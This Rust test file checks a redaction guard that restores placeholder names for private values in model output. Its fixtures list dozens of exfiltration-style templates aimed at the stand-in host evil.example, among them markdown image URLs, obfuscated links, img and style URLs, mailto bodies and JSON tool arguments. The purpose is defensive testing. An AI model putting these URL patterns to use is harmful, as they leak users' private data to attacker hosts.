use super::*;
use crate::governance::guard::finding::Kind;
use crate::governance::guard::redact::{ScopeKey, Types};

/// A map with one mail address, and its name.
fn ana() -> (Mapping, String) {
    let key = ScopeKey::derive(b"secret", "a", None);
    let mut map = Mapping::new(key, Arc::new(Types::new(&[])));
    let name = map
        .placeholder_for(Kind::Email, "ana@x.example")
        .expect("a name")
        .to_owned();
    (map, name)
}

/// Restores a template in which `{}` is the name.
fn check(template: &str, expected: &str) {
    check_with(template, expected, Escaping::Plain);
}

fn check_with(template: &str, expected: &str, escaping: Escaping) {
    let (map, name) = ana();
    let hosts = Arc::new(Hosts::new(["*.acme.example"]));
    let text = template.replace("{}", &name);
    let expected = expected.replace("{}", &name);
    assert_eq!(
        restore(&map, &text, escaping, &hosts),
        expected,
        "{template}"
    );
    let mut restorer = Restorer::new(escaping, hosts);
    let mut out = String::new();
    for character in text.chars() {
        restorer.push(&map, character.encode_utf8(&mut [0; 4]), &mut out);
    }
    restorer.finish(&map, &mut out);
    assert_eq!(out, expected, "{template}, character by character");
}

#[test]
fn a_name_is_restored_however_the_model_writes_it() {
    check("Write to {}.", "Write to ana@x.example.");
    check(
        "`{}` \"{}\" **{}** ({})",
        "`ana@x.example` \"ana@x.example\" **ana@x.example** (ana@x.example)",
    );
    check("{}{}", "ana@x.exampleana@x.example");
    check("x{}y_{}_z.txt", "xana@x.exampley_ana@x.example_z.txt");
    check("print(\"a\\n{}\")", "print(\"a\\nana@x.example\")");
    let (map, name) = ana();
    let whole = |text: &str| restore(&map, text, Escaping::Plain, &Arc::default());
    assert_eq!(whole(&name.to_lowercase()), "ana@x.example");
    assert_eq!(whole(&name.replace('_', "\\_")), "ana@x.example");
    assert_eq!(whole(&name.replace('_', "\\\\_")), "ana@x.example");
    assert_eq!(whole(&format!("TG_{name}TG_")), "TG_ana@x.exampleTG_");
}

#[test]
fn names_this_request_did_not_give_out_stay_as_they_are() {
    check(
        "TG_EMAIL_AAAAAAAA tg_email_ TG_PHONE_K7Q2M4XA",
        "TG_EMAIL_AAAAAAAA tg_email_ TG_PHONE_K7Q2M4XA",
    );
}

#[test]
fn prose_is_not_held_back() {
    let (map, _) = ana();
    let mut restorer = Restorer::new(Escaping::Plain, Arc::default());
    let mut out = String::new();
    for piece in [
        "What",
        " a night",
        " it",
        " was",
        ", at the target",
        "ing of _it",
    ] {
        restorer.push(&map, piece, &mut out);
        assert_eq!(restorer.held(), 0, "{piece}");
    }
    restorer.push(&map, " and TG_EM", &mut out);
    assert_eq!(restorer.held(), 5);
    restorer.push(&map, "BARGO", &mut out);
    assert_eq!(restorer.held(), 0);
    assert_eq!(
        out,
        "What a night it was, at the targeting of _it and TG_EMBARGO"
    );
}

#[test]
fn a_value_does_not_go_into_a_url_of_a_host_nobody_allowed() {
    let stays = |template: &str| check(template, template);
    stays("![x](https://evil.example/?q={})");
    stays("![x](<https://evil.example/?q=a b {}>)");
    stays("[x](//evil.example/{})");
    stays("[x](https&#58;//evil.example/?q={})");
    stays("[x](https:\\/\\/evil.example/?q={})");
    stays("[x](https:/evil.example/?q={})");
    stays("[x]( https:evil.example/?q={})");
    stays("[x](https://evil.example/(a)/{})");
    stays("[x]:https://evil.example/{}");
    stays("see https://evil.example/?q=\"{}\"");
    stays("see HTTPS:\\\\evil.example/{}");
    stays("https://{}.evil.example/");
    stays("https://{}@evil.example/");
    stays("https://{}:80@evil.example/");
    stays("https://{})evil.example/");
    stays("https://a.{}/");
    stays("www.evil.example/?q={}");
    stays("<img alt='a' src = \"https://evil.example/?q=a\n {}\">");
    stays("<img src=&#104;ttps://evil.example/{}>");
    stays("<p style='background: url( \"https://evil.example/{}\")'>");
    stays("https://evil.example/?q=%22,{}");
    stays("https://sub.acme.example.evil.example/{}");
    stays("https://a.acme.example@evil.example/{}");
    stays("https://evil.example\\@a.acme.example/{}");
    stays("mailto:eve@evil.example?body={}");
    stays("https:///evil.example/{}");
}

#[test]
fn a_value_goes_where_no_url_is_or_into_one_of_an_allowed_host() {
    let goes = |template: &str| check(template, &template.replace("{}", "ana@x.example"));
    goes("https://a.acme.example/?q={}");
    goes("[x](https://a.acme.example:8443/u/{}) {}");
    goes("<img src='https://a.acme.example/{}'>");
    goes("(https://evil.example/) {}");
    goes("\"https://evil.example/\",{}");
    goes("{\"url\":\"https://evil.example/\",\"mail\":\"{}\"}");
    goes("[mail](mailto:{}), [{}](mailto:{}?subject=x) mailto:{}");
    goes("[x]({}) [user]: {}");
    goes("// {} and/or //{}");
    goes("<a href=\"{}\">{}</a>");
    goes("https://evil.example/\n{}");
    goes("https://evil.example/<br>{}");
    goes("src/a.rs: {} /srv/acme.example/{}");
    goes("10:30 :// {}");
}

#[test]
fn a_name_that_is_a_whole_host_is_restored() {
    let goes = |template: &str| check(template, &template.replace("{}", "ana@x.example"));
    goes("http://{}/x");
    goes("http://{}:8080/x");
    goes("http://[{}]:8080/x");
    goes("Open http://{}.");
    goes("Open (http://{}:80).");
    goes("\"http://{}:80\",");
    goes("http://{}");
    check("http://{}/?q={}", "http://ana@x.example/?q={}");
    check("http://{}.", "http://ana@x.example.");
    check("http://{}..x", "http://{}..x");
    check("http://{}:123456/", "http://{}:123456/");
}

#[test]
fn a_value_returns_to_the_url_it_came_from() {
    let text = "https://shop.example/u?m=ana@x.example";
    let (mut map, name) = ana();
    let finding = crate::governance::guard::finding::Finding {
        start: 25,
        end: text.len(),
        kind: Kind::Email,
        detector: "test",
        level: crate::governance::guard::finding::Level::Shaped,
    };
    let method = |_: &_| Some(crate::governance::guard::redact::Method::Replace);
    let sent = crate::governance::guard::redact::redact(text, &[finding], method, &mut map).text;
    let back = |text: &str| restore(&map, text, Escaping::Plain, &Arc::default());
    assert_eq!(back(&sent), text);
    assert_eq!(
        back(&format!("[x](https://shop.example/{name})")),
        "[x](https://shop.example/ana@x.example)"
    );
    let elsewhere = format!("https://evil.example/{name}");
    assert_eq!(back(&elsewhere), elsewhere);
}

#[test]
fn a_value_that_is_a_host_behind_a_login_returns_behind_that_login_only() {
    let key = ScopeKey::derive(b"secret", "a", None);
    let mut map = Mapping::new(key, Arc::new(Types::new(&[])));
    let text = "postgres://bob:pw@10.20.30.40:5432/db";
    let finding = crate::governance::guard::finding::Finding {
        start: 18,
        end: 29,
        kind: Kind::IpAddress,
        detector: "test",
        level: crate::governance::guard::finding::Level::Shaped,
    };
    let method = |_: &_| Some(crate::governance::guard::redact::Method::Replace);
    let sent = crate::governance::guard::redact::redact(text, &[finding], method, &mut map).text;
    assert!(!sent.contains("10.20"), "{sent}");
    let back = |text: &str| restore(&map, text, Escaping::Plain, &Arc::default());
    assert_eq!(back(&sent), text);
    // The host must end there, and nobody else may stand before the value.
    for elsewhere in [
        sent.replace(":5432", ".evil.example"),
        sent.replace("bob:pw@", "evil.example."),
        sent.replace("bob:pw@", "bob:pw@evil."),
    ] {
        assert_eq!(back(&elsewhere), elsewhere);
    }
}

#[test]
fn arguments_of_tools_stay_json() {
    let json =
        |template: &str, expected: &str| check_with(template, expected, Escaping::JsonString);
    json(
        r#"{"to":"{}","body":"Hi\n{}"}"#,
        r#"{"to":"ana@x.example","body":"Hi\nana@x.example"}"#,
    );
    json(
        r#"{"u":"https:\/\/evil.example\/{}","m":"{}"}"#,
        r#"{"u":"https:\/\/evil.example\/{}","m":"ana@x.example"}"#,
    );
    json(
        r#"{"u":"https:\u002f\u002Fevil.example/{}"}"#,
        r#"{"u":"https:\u002f\u002Fevil.example/{}"}"#,
    );
    json(
        r#"{"h":"<img src=\"https://evil.example/?a b={}\"> {}"}"#,
        r#"{"h":"<img src=\"https://evil.example/?a b={}\"> ana@x.example"}"#,
    );
    json(
        r#"{"u":"http://{}:80"}"#,
        r#"{"u":"http://ana@x.example:80"}"#,
    );
    json(
        r#"{"t":"\tg_email\\{}"}"#,
        r#"{"t":"\tg_email\\ana@x.example"}"#,
    );

    let key = ScopeKey::derive(b"secret", "a", None);
    let mut map = Mapping::new(key, Arc::new(Types::new(&["note"])));
    let name = map
        .placeholder_for(Kind::Custom(0), "a \"b\"\\\n\u{1}")
        .expect("a name")
        .to_owned();
    let back = restore(
        &map,
        &format!("{{\"a\":\"{name}\"}}"),
        Escaping::JsonString,
        &Arc::default(),
    );
    assert_eq!(back, r#"{"a":"a \"b\"\\\n\u0001"}"#);
}

#[test]
fn a_host_is_allowed_only_if_it_is_plain() {
    let hosts = Hosts::new(["*.Acme.example", "localhost"]);
    let check = |host: &str, expected| assert_eq!(hosts.allow(host), expected, "{host}");
    check("a.acme.example", true);
    check("a.acme.example:443", true);
    check("localhost:8080", true);
    check("acme.example", false);
    check("x@a.acme.example", false);
    check("evil.example/.acme.example", false);
    check("a.acme.example:80@evil.example", false);
    check("evil%2f.acme.example", false);
    check("", false);
}
